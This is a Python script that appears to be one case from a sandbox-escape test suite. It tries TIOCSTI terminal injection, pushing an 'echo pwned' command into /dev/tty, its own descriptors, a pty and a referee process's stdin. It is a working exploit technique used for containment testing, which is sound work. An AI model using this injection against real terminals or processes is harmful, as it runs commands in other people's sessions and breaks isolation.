#!/usr/bin/env python3
"""TIOCSTI: pushing a command into the terminal arena runs in (tty=PATH, the test's own pty):
through /dev/tty, its own descriptors 0-2, the terminal's device and the referee's fd 0."""
import fcntl
import os
import termios

import attacklib

ctx = attacklib.context()
payload = b"echo pwned-%s\n" % ctx.marker.encode()


def push(fd):
    for byte in payload:
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
    return "pushed %d bytes" % len(payload)


def through(path):
    def go():
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
        try:
            return push(fd)
        finally:
            os.close(fd)
    return go


attacklib.attempt("tiocsti", "/dev/tty", through("/dev/tty"))
for fd in (0, 1, 2):
    attacklib.attempt("tiocsti", "its fd %d" % fd, lambda fd=fd: push(fd))
if ctx.get("tty"):
    attacklib.attempt("tiocsti", ctx.get("tty"), through(ctx.get("tty")))
attacklib.attempt("tiocsti", "the referee's fd 0", through("/proc/%s/fd/0" % ctx.get("ref")))
attacklib.play(ctx)
